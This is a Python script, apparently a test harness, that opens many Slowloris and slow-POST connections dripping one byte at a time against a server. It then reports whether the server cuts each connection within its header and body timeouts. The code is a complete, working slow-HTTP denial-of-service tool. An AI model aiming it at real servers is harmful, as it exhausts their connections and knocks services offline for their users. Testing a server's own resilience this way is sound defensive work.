#!/usr/bin/env python3
"""Slowloris and slow-POST clients for scripts/slow-clients.sh (asyncio, no extra packages).

Keeps `--slowloris` connections that send one header byte every `--interval` seconds and
never finish the head, and `--slow-posts` connections that send a whole head with a
Content-Length and then one body byte every `--interval` seconds. A connection the server
closes is replaced at once, so the attack stays at full strength until SIGTERM; then the
open ones are waited for (until their deadline + `--grace`), and a summary is printed:
for each kind, how long the server took from the connection's first byte to closing it
(EOF or reset), how many were within deadline + 1 s, and what the server answered.

Prints `ramped` once every connection of the first wave is open. Exits 1 if a connection
was not cut within its deadline + 1 s (or never), 0 otherwise.
"""

import argparse
import asyncio
import collections
import json
import signal
import statistics
import sys
import time

# A request head that never ends: the request line, then one header value forever.
SLOWLORIS_HEAD = b"GET / HTTP/1.1\r\nHost: slowloris\r\nX-Slow: "
# A POST whose 1 MB body comes a byte at a time.
SLOW_POST_HEAD = b"POST /upload HTTP/1.1\r\nHost: slowpost\r\nContent-Length: 1000000\r\n\r\n"


class Attack:
    """The attack's connections and what became of each.

    Built on asyncio's protocol callbacks rather than streams and a task per connection:
    the attackers share CPU 1 with wrk, and every microsecond they spend there shows up in
    wrk's latency rather than the server's.
    """

    def __init__(self, args):
        self.args = args
        self.loop = asyncio.get_running_loop()
        self.stopping = False
        self.stopped = asyncio.Event()
        # kind -> list of (seconds from first byte to close, answer)
        self.results = collections.defaultdict(list)
        self.connect_errors = collections.Counter()
        self.open = collections.Counter()  # kind -> connections open now
        self.connecting = 0

    def connect(self, kind):
        """Opens one connection of `kind`; it opens its own replacement when cut."""
        if self.stopping:
            return
        self.connecting += 1
        self.loop.create_task(self._connect(kind))

    async def _connect(self, kind):
        try:
            await asyncio.wait_for(
                self.loop.create_connection(
                    lambda: SlowConnection(self, kind), self.args.host, self.args.port
                ),
                10,
            )
        except (OSError, asyncio.TimeoutError) as e:
            self.connect_errors[type(e).__name__] += 1
            self.loop.call_later(0.1, self.connect, kind)
        finally:
            self.connecting -= 1
            if self.stopping and self.open.total() == 0 and self.connecting == 0:
                self.stopped.set()

    def closed(self, kind, seconds, answer):
        """A connection of `kind` was cut `seconds` after its first byte: record, replace."""
        self.open[kind] -= 1
        self.results[kind].append((seconds, answer))
        self.connect(kind)
        if self.stopping and self.open.total() == 0 and self.connecting == 0:
            self.stopped.set()

    async def wait_open(self, total):
        """Returns once `total` connections are open at the same time (or 30 s passed)."""
        deadline = time.monotonic() + 30
        while self.open.total() < total and time.monotonic() < deadline:
            await asyncio.sleep(0.05)


class SlowConnection(asyncio.Protocol):
    """One slow client: a byte (or the whole head, for a slow POST) every `interval`."""

    def __init__(self, attack, kind):
        self.attack = attack
        self.kind = kind
        self.pieces = iter_slowloris() if kind == "slowloris" else iter_slow_post()
        self.received = b""
        self.first_byte = None
        self.timer = None
        self.transport = None

    def connection_made(self, transport):
        self.transport = transport
        self.attack.open[self.kind] += 1
        self.first_byte = time.monotonic()
        self.send_next()

    def send_next(self):
        self.transport.write(next(self.pieces))
        self.timer = self.attack.loop.call_later(self.attack.args.interval, self.send_next)

    def data_received(self, data):
        if len(self.received) < 64:  # the status line is all we look at
            self.received += data

    def eof_received(self):
        self.finish("closed without an answer")
        return False  # close our side too

    def connection_lost(self, exc):
        self.finish("reset" if exc else "closed without an answer")

    def finish(self, otherwise):
        """Records the first close (EOF or reset) of this connection, once."""
        if self.timer is None:
            return
        seconds = time.monotonic() - self.first_byte
        self.timer.cancel()
        self.timer = None
        self.transport.close()
        answer = otherwise
        if self.received.startswith(b"HTTP/1."):
            answer = self.received.split(b" ", 2)[1].decode(errors="replace")
        self.attack.closed(self.kind, seconds, answer)


def iter_slowloris():
    """One byte at a time of a head that never ends."""
    for byte in SLOWLORIS_HEAD:
        yield bytes([byte])
    while True:
        yield b"a"


def iter_slow_post():
    """The whole head, then one body byte at a time."""
    yield SLOW_POST_HEAD
    while True:
        yield b"x"


def summarize(kind, results, deadline, still_open):
    """One kind's numbers, and whether every connection met its bound."""
    bound = deadline + 1.0
    cut = sorted(t for t, _ in results)
    within = sum(1 for t in cut if t <= bound)
    answers = collections.Counter(a for _, a in results)
    summary = {
        "kind": kind,
        "deadline_s": deadline,
        "bound_s": bound,
        "cut": len(cut),
        "within_bound": within,
        "never_cut": still_open,
        "min_s": round(cut[0], 3) if cut else None,
        "median_s": round(statistics.median(cut), 3) if cut else None,
        "max_s": round(cut[-1], 3) if cut else None,
        "answers": dict(answers),
    }
    ok = within == len(cut) and still_open == 0 and len(cut) > 0
    return summary, ok


async def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--slowloris", type=int, default=1000)
    parser.add_argument("--slow-posts", type=int, default=100)
    parser.add_argument("--interval", type=float, default=10.0, help="seconds between bytes")
    parser.add_argument("--header-timeout", type=float, required=True)
    parser.add_argument("--body-timeout", type=float, required=True)
    parser.add_argument("--ramp", type=float, default=1.0, help="seconds to open the first wave")
    parser.add_argument("--grace", type=float, default=5.0)
    parser.add_argument("--json", help="also write the summary here")
    args = parser.parse_args()

    attack = Attack(args)
    stop = asyncio.Event()
    attack.loop.add_signal_handler(signal.SIGTERM, stop.set)
    attack.loop.add_signal_handler(signal.SIGINT, stop.set)
    kinds = ["slowloris"] * args.slowloris + ["slow POST"] * args.slow_posts
    for n, kind in enumerate(kinds):
        attack.loop.call_later(args.ramp * n / len(kinds), attack.connect, kind)
    await attack.wait_open(len(kinds))
    print(f"ramped: {attack.open.total()} connections open", flush=True)
    await stop.wait()

    # No new connections now; the open ones have until their deadline + grace.
    attack.stopping = True
    if attack.open.total() or attack.connecting:
        longest = max(args.header_timeout, args.body_timeout) + args.grace
        try:
            await asyncio.wait_for(attack.stopped.wait(), longest)
        except asyncio.TimeoutError:
            pass
    still_open = dict(attack.open)

    deadlines = {"slowloris": args.header_timeout, "slow POST": args.body_timeout}
    counts = {"slowloris": args.slowloris, "slow POST": args.slow_posts}
    summaries, all_ok = [], True
    for kind, deadline in deadlines.items():
        if counts[kind] == 0:
            continue
        never = still_open.get(kind, 0)
        summary, ok = summarize(kind, attack.results[kind], deadline, never)
        summaries.append(summary)
        all_ok &= ok
        print(
            f"{kind}: {summary['cut']} connections cut, {summary['within_bound']} within "
            f"deadline + 1 s ({summary['bound_s']:g} s), {never} never cut; "
            f"first byte to close min {summary['min_s']} s, median {summary['median_s']} s, "
            f"max {summary['max_s']} s; answers {summary['answers']}"
        )
    if attack.connect_errors:
        print(f"connect errors: {dict(attack.connect_errors)}")
    if args.json:
        with open(args.json, "w") as f:
            json.dump({"kinds": summaries, "connect_errors": attack.connect_errors}, f)
    return 0 if all_ok else 1


if __name__ == "__main__":
    sys.exit(asyncio.run(main()))
